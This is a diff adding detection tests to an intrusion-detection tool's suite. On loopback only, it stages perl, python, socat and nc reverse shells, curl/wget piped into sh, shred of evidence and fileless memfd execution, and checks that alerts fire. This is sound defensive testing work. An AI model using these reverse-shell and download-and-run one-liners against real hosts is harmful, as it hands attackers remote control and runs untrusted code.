@@ -4,11 +4,13 @@ policy triggered by the real command an attacker would run, everyday
 commands staying quiet, allow/exclude, dedup summaries, monitor-only block
 verdicts, and SIGHUP reloads (a broken policy keeps the old one)."""
 
+import http.server
 import os
 import shutil
 import signal
 import socket
 import subprocess
+import threading
 import time
 import uuid
 
@@ -364,3 +366,157 @@ def test_check_policy_flag(tmp):
     assert p.returncode == 1 and p.stdout == ""
     assert p.stderr == ("%s:3:84: unknown action 'explode' (expected allow, log, alert, block)\n"
                         % bad)
+
+
+# ---------------------------------------------------- exec context, fileless
+
+
+def _revshell_listener():
+    """A loopback listener that plays the attacker: it sends 'exit' to whatever
+    shell connects, so the shell ends by itself."""
+    srv = listener()
+
+    def serve():
+        try:
+            srv.settimeout(20)
+            c, _ = srv.accept()
+            c.sendall(b"echo sgtest-revshell\nexit\n")
+            c.settimeout(10)
+            try:
+                while c.recv(4096):
+                    pass
+            except OSError:
+                pass
+            c.close()
+        except OSError:
+            pass
+
+    t = threading.Thread(target=serve, daemon=True)
+    t.start()
+    return srv, t
+
+
+@pytest.mark.parametrize("how", ["perl", "python", "socat"])
+def test_reverse_shell_socket_stdio(dflt, how):
+    """An interpreter connects to 127.0.0.1 and execs 'sh -i' with the socket as
+    its stdio (perl, python), or socat gives a shell a socket pair: the shell's
+    exec alerts, whatever started it."""
+    srv, t = _revshell_listener()
+    port = srv.getsockname()[1]
+    try:
+        if how == "perl":
+            cmd = ["perl", "-e", "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
+                   "connect(S,sockaddr_in(%d,inet_aton('127.0.0.1'))) or die;"
+                   "open(STDIN,'>&S'); open(STDOUT,'>&S'); open(STDERR,'>&S');"
+                   "exec('/bin/sh -i');" % port]
+        elif how == "python":
+            cmd = ["/usr/bin/python3", "-c", "import socket,os;s=socket.create_connection(("
+                   "'127.0.0.1',%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+                   "os.execv('/bin/sh',['sh','-i'])" % port]
+        else:
+            cmd = ["socat", "TCP:127.0.0.1:%d" % port, "EXEC:/bin/sh"]
+        subprocess.run(["/usr/bin/timeout", "20"] + cmd, stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL)
+        t.join(20)
+        ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-stdio"
+                           and e["type"] == "exec", what="reverse shell alert (%s)" % how)
+        assert ev["severity"] == "critical"
+        stdin = ev["exec"]["stdio"]["stdin"]
+        assert stdin["kind"] == "socket"
+        if how != "socat":
+            assert stdin["family"] == "inet" and stdin["remote"] == "127.0.0.1:%d" % port
+        else:
+            assert stdin["family"] == "unix"
+    finally:
+        srv.close()
+
+
+def test_reverse_shell_relay(dflt):
+    """sh -i piped into nc: the shell's stdout reader is a network tool."""
+    srv, t = _revshell_listener()
+    port = srv.getsockname()[1]
+    try:
+        subprocess.run(["/usr/bin/timeout", "20", "/bin/bash", "-c",
+                        "nc 127.0.0.1 %d < /dev/null | /bin/sh -i 2>&1 | nc -q1 127.0.0.1 %d"
+                        % (port, port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay" and e["type"] == "exec",
+                      what="relay alert")
+    finally:
+        srv.close()
+
+
+class _Script(http.server.SimpleHTTPRequestHandler):
+    def do_GET(self):
+        body = b"echo sgtest-downloaded\n"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.mark.parametrize("tool", ["curl", "wget"])
+def test_download_piped_into_shell(dflt, tool):
+    """curl URL | sh typed at a prompt: the two sides are siblings, seen through
+    the pipe between them (whichever execs second alerts)."""
+    httpd = http.server.HTTPServer(("127.0.0.1", 0), _Script)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    url = "http://127.0.0.1:%d/x.sh" % httpd.server_address[1]
+    get = "curl -s %s" % url if tool == "curl" else "wget -q -O- %s" % url
+    try:
+        p = subprocess.run(["/usr/bin/timeout", "20", "/bin/bash", "-c", "%s | sh" % get],
+                           capture_output=True, text=True)
+        assert "sgtest-downloaded" in p.stdout
+        ev = dflt.wait_for(lambda e: e.get("rule") == "exec-download-pipe-peer",
+                           what="download pipe alert (%s)" % tool)
+        fds = ev["exec"]["stdio"]
+        peer = fds["stdin"].get("peer") or fds["stdout"].get("peer")
+        assert peer and os.path.basename(peer["exe"]) in (tool, "sh", "dash")
+    finally:
+        httpd.shutdown()
+
+
+def test_secure_delete(dflt, tmp):
+    f = os.path.join(tmp, "evidence.log")
+    with open(f, "w") as fh:
+        fh.write("x" * 4096)
+    p = run(dflt, "/usr/bin/shred", "-u", f)
+    wait_rule(dflt, "evasion-secure-delete", p.pid)
+    assert not os.path.exists(f)
+
+
+@pytest.mark.parametrize("kind", ["memfd", "deleted"])
+def test_fileless_exec(dflt, tmp, kind):
+    """A program run from a memfd, or from a file deleted before its exec."""
+    src = os.path.join(tmp, "payload")
+    shutil.copy("/bin/true", src)
+    code = ("import os\n"
+            "fd = os.memfd_create('sgpayload') if %r == 'memfd' else os.open(%r, os.O_RDONLY)\n"
+            "if %r == 'memfd': os.write(fd, open('/bin/true', 'rb').read())\n"
+            "else: os.unlink(%r)\n"
+            "os.execve('/proc/self/fd/%%d' %% fd, ['sgfileless'], {})\n" % (kind, src, kind, src))
+    subprocess.run(["/usr/bin/python3", "-c", code], check=True)
+    ev = dflt.wait_for(lambda e: e.get("rule") == "exec-fileless" and e["type"] == "exec"
+                       and e["exec"]["argv"] == ["sgfileless"], what="fileless alert")
+    assert ev["exec"]["fileless"] == kind and ev["exec"]["via"] == "fd"
+    if kind == "memfd":
+        assert ev["proc"]["exe"] == "memfd:sgpayload"
+    else:
+        assert ev["proc"]["exe"] == src + " (deleted)"
+
+
+def test_loader_run_from_writable_dir(dflt, tmp):
+    prog = os.path.join(tmp, "prog")
+    shutil.copy("/bin/true", prog)
+    loader = "/lib64/ld-linux-x86-64.so.2"
+    if not os.path.exists(loader):
+        pytest.skip("no %s on this architecture" % loader)
+    p = run(dflt, loader, prog, "sgloader")
+    ev = wait_rule(dflt, "exec-loader-writable", p.pid)
+    assert ev["exec"]["via"] == "loader" and ev["exec"]["loader_target"] == prog
+    # the same loader running a system program stays quiet
+    q = run(dflt, loader, "/usr/bin/true")
+    dflt.marker()
+    assert not alerts(dflt, q.pid)
